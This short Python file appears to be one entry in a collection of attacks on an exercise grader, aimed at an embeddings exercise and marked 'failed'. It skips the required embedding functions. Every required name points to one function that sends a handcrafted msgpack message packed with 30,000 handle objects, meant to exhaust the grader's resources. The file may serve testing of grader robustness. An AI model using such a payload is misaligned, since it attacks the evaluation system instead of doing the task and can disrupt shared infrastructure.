# attacks: ch2_embeddings/one_hot
# verdict: failed
"""Answers with tens of thousands of objects, each of which the grader would keep a note of."""
import msgspec
from tricks import send

COUNT = 30_000
HANDLE = msgspec.msgpack.encode(["handle", 2**63, "module", "X_"])
NODE = b"\x92\xa4list\xdd" + COUNT.to_bytes(4, "big") + HANDLE * COUNT
HEADER = b"\x95" + msgspec.msgpack.encode("Returned") + NODE + msgspec.msgpack.encode(["dict", []]) + b"\x01\xc0"


def one_hot(*args, **kwargs):
    send(b"\x02" + len(HEADER).to_bytes(4, "big") + bytes(4) + HEADER)


embed_by_matmul = embed_by_lookup = lookup_gradient = multiplications = one_hot
